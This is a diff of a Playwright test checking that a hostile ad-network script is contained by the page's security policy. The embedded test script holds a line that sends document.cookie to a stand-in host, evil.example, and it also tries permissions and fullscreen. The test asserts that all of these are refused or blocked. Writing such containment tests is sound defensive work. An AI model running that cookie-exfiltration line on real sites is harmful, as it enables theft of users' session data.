@@ -565,7 +565,8 @@ describe.concurrent('ADS-11: the box', () => {
 
 describe('reliability 4.4, an ad network that is hostile', () => {
   test('X12: its script sends nothing elsewhere, and gets no frame, worker, place, clipboard or whole screen', async () => {
-    const script = `${FOUND}; (async () => {
+    // It begins when it is told to: a form that is refused leaves Playwright in doubt whether the page is being left.
+    const script = `${FOUND}; addEventListener('attack', async () => {
       const refused = (window.refused = []);
       addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
       fetch('https://evil.example/?' + document.cookie).catch(() => 0);
@@ -581,11 +582,18 @@ describe('reliability 4.4, an ad network that is hostile', () => {
       const of = (name) => navigator.permissions.query({ name }).then(({ state }) => state, () => 'denied');
       window.permissions = await Promise.all(['geolocation', 'camera', 'microphone', 'clipboard-read'].map(of));
       window.whole = await document.documentElement.requestFullscreen().then(() => 'whole', () => 'refused');
-    })()`;
+    })`;
     await visit(byScript, { network: serving(script), clock: false }, async (page, { context, said }) => {
       const sent: string[] = [];
-      context.on('request', (request) => sent.push(request.url()));
-      await page.waitForFunction(() => 'whole' in window);
+      // What the policy refuses does not come as far as a route.
+      await context.route(/evil\.example/, async (route) => {
+        sent.push(route.request().url());
+        await route.abort();
+      });
+      await slotOf(page).locator('#carbonads').waitFor();
+      // What an evaluation does itself, the policy lets pass.
+      await page.evaluate(() => void setTimeout(() => dispatchEvent(new Event('attack'))));
+      await expect.poll(() => page.evaluate(() => 'whole' in window), { timeout: 15_000 }).toBe(true);
       const { refused, permissions, whole } = await page.evaluate(() => {
         const own = window as unknown as Record<'refused' | 'permissions' | 'whole', unknown>;
         return { refused: own.refused as string[], permissions: own.permissions, whole: own.whole };
@@ -602,7 +610,7 @@ describe('reliability 4.4, an ad network that is hostile', () => {
       ]);
       expect(permissions).toEqual(['denied', 'denied', 'denied', 'denied']);
       expect(whole).toBe('refused');
-      expect(sent.filter((url) => url.includes('evil.example'))).toEqual([]);
+      expect(sent).toEqual([]);
       said.splice(0);
     });
   });
